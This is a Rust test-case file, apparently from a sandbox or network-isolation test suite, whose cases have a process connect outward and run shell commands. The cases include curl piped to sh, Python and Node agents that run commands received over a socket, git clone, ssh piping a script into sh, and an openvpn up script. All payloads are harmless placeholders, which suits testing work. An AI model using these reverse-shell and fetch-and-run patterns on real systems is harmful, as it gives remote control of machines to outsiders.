//! Programs with a connection of their own to the outside that run shells, or feed them.

use super::services::{KEYS, REPOSITORY, SSHD};
use super::{Case, LOCAL, Side};

const CLIENT: Case = Case { listener: Some(Side::Outside), player: Side::Victim, ..LOCAL };

/// Hands five steps to whoever connects, waits for each answer, and says so.
const COORDINATOR: (&str, &str) = (
    "coordinator.py",
    "import socket,time\n\
     c,_=socket.create_server(('{outside}',{port})).accept()\n\
     f=c.makefile('rw')\n\
     for step in ['id','uname -a','ls / | sort','echo building; sleep 0.2','echo harmless']:\n\
     \x20f.write(step+'\\n'); f.flush(); print(f.readline()); time.sleep(0.2)\n",
);

pub(super) const ALL: &[Case] = &[
    Case {
        name: "curl | sh",
        needs: &["curl", "/usr/bin/python3"],
        files: &[("install.sh", "id\nuname -a\nls / | sort | head -3\nsleep 0.3\necho harmless\n")],
        outside: "exec /usr/bin/python3 -m http.server -b {outside} -d {dir} {port}",
        play: "curl -fsS http://{outside}:{port}/install.sh | sh",
        answer: "harmless",
        ..CLIENT
    },
    Case {
        name: "agent in Python, steps by pipes",
        needs: &["/usr/bin/python3"],
        files: &[
            COORDINATOR,
            (
                "agent.py",
                "import socket,subprocess\n\
                 f=socket.create_connection(('{outside}',{port})).makefile('rw')\n\
                 for step in f:\n\
                 \x20r=subprocess.run(['sh','-c',step],stdin=subprocess.DEVNULL,capture_output=True,text=True)\n\
                 \x20print(r.stdout); f.write('%d %d\\n'%(r.returncode,len(r.stdout))); f.flush()\n",
            ),
        ],
        outside: "exec /usr/bin/python3 {dir}/coordinator.py",
        play: "/usr/bin/python3 {dir}/agent.py",
        answer: "harmless",
        ..CLIENT
    },
    Case {
        name: "agent in node, steps by pipes",
        needs: &["/usr/bin/python3", "/usr/bin/node"],
        files: &[
            COORDINATOR,
            (
                "agent.js",
                "const s=require('net').connect({port},'{outside}'),c=require('child_process');\n\
                 require('readline').createInterface({input:s}).on('line',step=>c.execFile('/bin/sh',['-c',step],(e,out)=>{\n\
                 console.log(out);s.write(`${e?1:0} ${out.length}\\n`)}));\n",
            ),
        ],
        outside: "exec /usr/bin/python3 {dir}/coordinator.py",
        play: "/usr/bin/node {dir}/agent.js",
        answer: "harmless",
        ..CLIENT
    },
    Case {
        name: "git clone over http",
        needs: &["/usr/bin/git", "/usr/bin/python3"],
        prepare: REPOSITORY,
        outside: "exec /usr/bin/python3 -m http.server -b {outside} -d {dir} {port}",
        play: "/usr/bin/git clone -q http://{outside}:{port}/repo/.git {dir}/clone && cat {dir}/clone/file",
        answer: "harmless",
        ..CLIENT
    },
    Case {
        name: "git clone over ssh",
        needs: &["/usr/bin/git", "sshd", "ssh"],
        files: &[("sshd", SSHD), ("keys", KEYS), ("repository", REPOSITORY)],
        prepare: "sh {dir}/keys; sh {dir}/repository",
        outside: "exec /usr/sbin/sshd -D -e -f {dir}/sshd",
        play: "GIT_SSH_COMMAND='ssh {ssh} -p {port}' /usr/bin/git clone -q root@{outside}:{dir}/repo {dir}/clone && \
               cat {dir}/clone/file",
        answer: "harmless",
        ..CLIENT
    },
    Case {
        name: "ssh outward with pipes",
        needs: &["sshd", "ssh", "tar"],
        files: &[("sshd", SSHD), ("script", "id\nls / | sort\necho harmless\n")],
        prepare: KEYS,
        outside: "exec /usr/sbin/sshd -D -e -f {dir}/sshd",
        play: "tar -C {dir} -c script | ssh {ssh} -p {port} root@{outside} 'cat >/dev/null'; \
               there=$(ssh {ssh} -p {port} root@{outside} id); echo \"$there\" | sort; \
               ssh {ssh} -p {port} root@{outside} 'cat {dir}/script' | sh",
        answer: "harmless",
        ..CLIENT
    },
    // The tunnel's socket is datagrams: nothing says when the other end is there.
    Case {
        name: "openvpn with an up script",
        needs: &["openvpn", "/dev/net/tun"],
        files: &[(
            "up",
            "#!/bin/sh\nid > {dir}/up.txt\nip address show dev $dev | sort >> {dir}/up.txt\necho harmless >> {dir}/up.txt\n",
        )],
        prepare: "chmod +x {dir}/up; openvpn --genkey secret {dir}/key",
        victim: "exec openvpn --dev tun77 --proto udp4 --remote {outside} {port} --nobind --secret {dir}/key \
                 --cipher AES-256-CBC --ifconfig 10.99.0.1 10.99.0.2 --script-security 2 --up {dir}/up --ping 1",
        play: "for i in $(seq 50); do grep -s harmless {dir}/up.txt && break; sleep 0.1; done; sleep 1",
        answer: "harmless",
        listener: None,
        ..CLIENT
    },
];
